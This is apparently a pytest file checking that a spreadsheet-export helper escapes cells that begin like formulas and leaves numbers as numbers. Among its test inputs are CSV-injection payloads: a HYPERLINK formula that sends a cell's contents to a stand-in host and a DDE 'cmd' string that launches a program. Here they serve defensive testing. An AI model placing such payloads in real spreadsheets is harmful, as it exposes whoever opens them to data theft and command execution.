"""CSV for people: a cell that starts like a formula is written as text, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import pytest

from prosumo.core.spreadsheet import spreadsheet_cell, spreadsheet_csv


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('=HYPERLINK("https://evil.example/?"&A2,"Gold")', '\'=HYPERLINK("https://evil.example/?"&A2,"Gold")'),
        ("Gold", "Gold"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (True, "True"),
        (-3, -3),
        (-0.25, -0.25),
        (Decimal("-1.50"), Decimal("-1.50")),
        (np.int64(-7), np.int64(-7)),
    ],
)
def test_a_cell_is_text_behind_a_quote_when_it_starts_like_a_formula(value, cell):
    assert spreadsheet_cell(value) == cell
    assert type(spreadsheet_cell(value)) is type(cell)


def test_nan_is_an_empty_cell():
    assert spreadsheet_cell(float("nan")) == ""
    assert spreadsheet_cell(np.float64("nan")) == ""


def test_text_is_quoted_numbers_are_not_and_a_csv_reader_gets_the_cells_back():
    # when
    text = spreadsheet_csv(["name", "count", "share"], [["=cmd|' /C calc'!A0", -2, 0.5], ['say "hi"', 3, None]])
    # then
    assert text == ('"name","count","share"\r\n"\'=cmd|\' /C calc\'!A0",-2,0.5\r\n"say ""hi""",3,""\r\n')
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "count", "share"],
        ["'=cmd|' /C calc'!A0", "-2", "0.5"],
        ['say "hi"', "3", ""],
    ]
